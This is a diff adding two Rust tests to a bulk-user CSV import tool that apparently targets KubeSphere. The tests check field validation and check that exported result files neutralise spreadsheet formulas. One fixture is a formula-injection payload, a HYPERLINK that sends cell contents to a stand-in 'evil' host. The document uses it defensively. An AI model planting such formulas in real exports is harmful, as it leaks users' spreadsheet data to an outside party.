@@ -208,6 +208,42 @@ async fn insert_job(
 }
 
 #[tokio::test]
+async fn display_names_are_bounded_and_e_mails_are_parsed_whenever_given() {
+    let app = TestApp::start().await;
+    let cookie = app.login("admin").await;
+    let long = "n".repeat(129);
+    let csv = format!(
+        "{HEADER}\nmei,mei@example.com,{long},,demo,regular,,,\nomar,omar@example.com,\"Omar\tK\",,demo,,,,\nfrank,not-an-address,,,demo,viewer,,,\nzoe,zoe@example.com,=Zoe,,demo,,,,\n"
+    );
+    let (status, html) = dry_run(&app, &cookie, &csv).await;
+    assert_eq!(status, StatusCode::OK, "{html}");
+    assert!(verdict(&html, 2).contains("display_name") && verdict(&html, 2).contains("128"), "{}", verdict(&html, 2));
+    assert!(verdict(&html, 3).contains("control characters"), "{}", verdict(&html, 3));
+    assert!(verdict(&html, 4).contains("email"), "an existing person's bad address too: {}", verdict(&html, 4));
+    assert!(verdict(&html, 5).contains("create the account zoe"), "free text may start with =: {}", verdict(&html, 5));
+}
+
+#[tokio::test]
+async fn the_result_file_writes_a_would_be_formula_as_text_and_kubesphere_gets_it_as_typed() {
+    let app = TestApp::start().await;
+    let cookie = app.login("admin").await;
+    let evil = r#"=HYPERLINK("https://evil/?"&A2,"details")"#;
+    let csv = format!("{HEADER}\nmei,mei@example.com,\"{}\",,demo,regular,,,\n", evil.replace('"', "\"\""));
+    let (_, run) = dry_run(&app, &cookie, &csv).await;
+    let (status, html) = apply(&app, &cookie, &csv, &reviewed(&run), false).await;
+    assert_eq!(status, StatusCode::OK, "{html}");
+    let page = finished_job(&app, &cookie, &html).await;
+    let marker = "href=\"data:text/csv;charset=utf-8,";
+    let start = page.find(marker).expect("a result file") + marker.len();
+    let encoded = &page[start..start + page[start..].find('"').unwrap()];
+    let file = percent_encoding::percent_decode_str(encoded).decode_utf8().unwrap().replace("&amp;", "&");
+    let row = file.lines().nth(1).unwrap();
+    assert!(row.starts_with(r#"mei,mei@example.com,"'=HYPERLINK(""https://evil/?""&A2,""details"")","#), "{row}");
+    let user = app.upstream_get("/kapis/iam.kubesphere.io/v1beta1/users/mei").await;
+    assert_eq!(user["metadata"]["annotations"]["kubesphere.io/alias-name"], evil, "sent as typed");
+}
+
+#[tokio::test]
 async fn apply_makes_the_accounts_shows_their_passwords_once_and_runs_the_rest_as_a_job() {
     let (app, dir, db) = app_with_a_database_file("bulk", 0).await;
     let cookie = app.login("admin").await;
